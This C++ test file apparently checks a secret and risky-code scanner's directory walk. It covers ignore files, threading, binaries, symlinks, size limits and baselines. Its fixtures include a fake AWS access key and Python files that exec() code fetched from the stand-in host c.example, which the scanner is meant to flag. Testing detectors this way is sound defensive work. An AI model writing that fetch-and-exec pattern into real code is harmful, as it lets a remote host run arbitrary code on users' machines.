// SPDX-License-Identifier: Apache-2.0
#include "scan/scan.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/files.h"
#include "base/test_folder.h"
#include "base/tree.h"

namespace pawl {
namespace {

const std::string kAws = std::string("AK") + "IAQ3EGRZ7TLP5MWX2V";

class ScanTree : public testing::Test {
 protected:
  void put(const std::string& path, const std::string& text) {
    const std::string whole = folder_.path() + "/" + path;
    ASSERT_TRUE(make_folder(whole.substr(0, whole.rfind('/'))));
    ASSERT_TRUE(write_file(whole, text));
  }

  // The paths with findings, and what was skipped: `a b; files 3 binary 1`.
  [[nodiscard]] std::string scan(int jobs = 1, bool uses_ignore_files = true, const std::string& below = "") {
    ScanRequest request;
    request.jobs = jobs;
    request.uses_ignore_files = uses_ignore_files;
    const Result<ScanReport> report = scan_paths({folder_.path() + below}, request);
    if (!report) return report.error().text;
    std::string out;
    for (const ScanFinding& finding : report->findings)
      out += finding.path.substr(folder_.path().size() + below.size() + 1) + " ";
    const ScanCounts& counts = report->counts;
    out += "; files " + std::to_string(counts.files);
    if (counts.binary > 0) out += " binary " + std::to_string(counts.binary);
    if (counts.too_large > 0) out += " large " + std::to_string(counts.too_large);
    if (counts.unreadable > 0) out += " unreadable " + std::to_string(counts.unreadable);
    return out;
  }

  TestFolder folder_;
};

TEST_F(ScanTree, looks_at_all_files_in_order_however_many_threads) {
  for (int i = 0; i < 100; ++i) put("d" + std::to_string(i % 7) + "/f" + std::to_string(i), "id " + kAws + "\n");
  put("clean", "nothing\n");
  const std::string one = scan(1);
  EXPECT_TRUE(one.ends_with("; files 101")) << one;
  EXPECT_EQ(scan(2), one);
  EXPECT_EQ(scan(8), one);
}

TEST_F(ScanTree, flows_through_several_files_are_found_however_many_threads) {
  for (int i = 0; i < 20; ++i) {
    const std::string folder = "p" + std::to_string(i) + "/";
    put(folder + "main.py", "from .net import fetch\nexec(fetch('https://c.example/a'))\n");
    put(folder + "net.py", "import requests\n\ndef fetch(url):\n    return requests.get(url).text\n");
    put(folder + "show.py", "from .net import fetch\nprint(fetch('https://c.example/a'))\n");
  }
  const std::string one = scan(1);
  EXPECT_TRUE(one.starts_with("p0/main.py p1/main.py ")) << one;
  EXPECT_TRUE(one.ends_with("p9/main.py ; files 60")) << one;
  EXPECT_EQ(one.find("show.py"), std::string::npos) << one;
  EXPECT_EQ(scan(8), one);
}

TEST_F(ScanTree, a_bound_on_imports_is_told) {
  std::string many;
  for (int i = 0; i < 100; ++i) many += "import m" + std::to_string(i) + "\n";
  put("a.py", many);
  const Result<ScanReport> report = scan_paths({folder_.path()}, {});
  ASSERT_TRUE(report);
  EXPECT_EQ(report->counts.unfollowed, 1U);
}

TEST_F(ScanTree, skips_what_git_ignores_but_not_what_it_could_not) {
  put(".gitignore", "*.log\nout/\n!keep.log\n");
  put("a.log", kAws);
  put("keep.log", kAws);
  put("out/x", kAws);
  put("sub/.gitignore", "/only-here\n");
  put("sub/only-here", kAws);
  put("sub/x/only-here", kAws);
  put(".git/config", kAws);
  EXPECT_EQ(scan(), "keep.log sub/x/only-here ; files 4");
  EXPECT_EQ(scan(1, false), "a.log keep.log out/x sub/only-here sub/x/only-here ; files 7");
}

TEST_F(ScanTree, a_folder_of_a_checkout_obeys_the_files_above) {
  put(".git/HEAD", "x");
  put(".git/info/exclude", "*.own\n");
  put(".gitignore", "/sub/secret\n*.log\n");
  put("sub/secret", kAws);
  put("sub/a.log", kAws);
  put("sub/a.own", kAws);
  put("sub/b", kAws);
  EXPECT_EQ(scan(1, true, "/sub"), "b ; files 1");
}

TEST_F(ScanTree, binaries_and_special_files_and_links_are_not_read) {
  put("a", std::string("x\0y ", 4) + kAws);
  put("late", std::string(9000, 'x') + std::string("\0 ", 2) + kAws);
  ASSERT_EQ(::mkfifo((folder_.path() + "/pipe").c_str(), 0600), 0);
  const TestFolder outside;
  ASSERT_TRUE(write_file(outside.path() + "/secret", kAws));
  ASSERT_EQ(::symlink(outside.path().c_str(), (folder_.path() + "/link").c_str()), 0);
  ASSERT_EQ(::symlink((outside.path() + "/secret").c_str(), (folder_.path() + "/file-link").c_str()), 0);
  ASSERT_EQ(::symlink(".", (folder_.path() + "/circle").c_str()), 0);
  EXPECT_EQ(scan(), "late ; files 1 binary 1");
}

TEST_F(ScanTree, files_over_the_limit_are_counted) {
  put("big", "");
  ASSERT_EQ(::truncate((folder_.path() + "/big").c_str(), (64 << 20) + 1), 0);
  EXPECT_EQ(scan(), "; files 0 large 1");
}

// A path that is longer than the kernel takes cannot be opened, whoever asks: also by root, for whom modes mean nothing.
TEST_F(ScanTree, what_cannot_be_looked_at_does_not_look_clean) {
  put("a", "nothing\n");
  const int before = ::open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  ASSERT_GE(before, 0);
  ASSERT_EQ(::chdir(folder_.path().c_str()), 0);
  const std::string name(250, 'd');
  for (int i = 0; i < 17; ++i) {
    ASSERT_EQ(::mkdir(name.c_str(), 0700), 0);
    ASSERT_EQ(::chdir(name.c_str()), 0);
  }
  ASSERT_EQ(::fchdir(before), 0);
  ::close(before);
  for (const int jobs : {1, 4}) {
    ScanRequest request;
    request.jobs = jobs;
    const Result<ScanReport> report = scan_paths({folder_.path()}, request);
    ASSERT_TRUE(report);
    EXPECT_TRUE(report->findings.empty());
    EXPECT_FALSE(report->is_whole());
    EXPECT_EQ(report->counts.unreadable, 1U);
    ASSERT_EQ(report->errors.size(), 1U);
    EXPECT_TRUE(report->errors[0].path.starts_with(folder_.path() + "/dddd")) << report->errors[0].path;
    EXPECT_EQ(report->errors[0].why, "the folder cannot be read");
  }
}

TEST_F(ScanTree, a_file_that_goes_away_meanwhile_is_not_an_error) {
  put("sub/a", "nothing\n");
  const Result<Tree> tree = Tree::open(folder_.path());
  ASSERT_TRUE(tree);
  ReadBuffer buffer;
  EXPECT_EQ(tree->read("sub/gone", kLargestScanned, buffer), ReadOutcome::gone);
  EXPECT_EQ(tree->names("gone").error().code, Code::not_found);
  EXPECT_EQ(tree->names("sub/a").error().code, Code::not_found) << "a file stands where a folder was";
}

TEST_F(ScanTree, a_path_that_is_not_there_is_an_error) {
  const Result<ScanReport> report = scan_paths({folder_.path(), folder_.path() + "/no", "/dev/null"}, {});
  ASSERT_FALSE(report);
  EXPECT_NE(report.error().text.find("/no`: there is no such file"), std::string::npos) << report.error().text;
  EXPECT_NE(report.error().text.find("`/dev/null`: neither"), std::string::npos) << report.error().text;
}

TEST_F(ScanTree, what_the_baseline_knows_is_counted) {
  put("a", kAws);
  Baseline baseline = new_baseline();
  ScanRequest request;
  request.settings.baseline_key = baseline.key;
  const Result<ScanReport> first = scan_paths({folder_.path()}, request);
  ASSERT_TRUE(first);
  baseline = read_baseline(write_baseline(baseline, *first)).value_or(Baseline());
  request.baseline = &baseline;
  put("b", std::string("AK") + "IAQ3EGRZ7TLP5MWX2W");
  const Result<ScanReport> second = scan_paths({folder_.path()}, request);
  ASSERT_TRUE(second);
  EXPECT_EQ(second->counts.known, 1U);
  ASSERT_EQ(second->findings.size(), 1U);
  EXPECT_TRUE(second->findings[0].path.ends_with("/b"));
}

}  // namespace
}  // namespace pawl
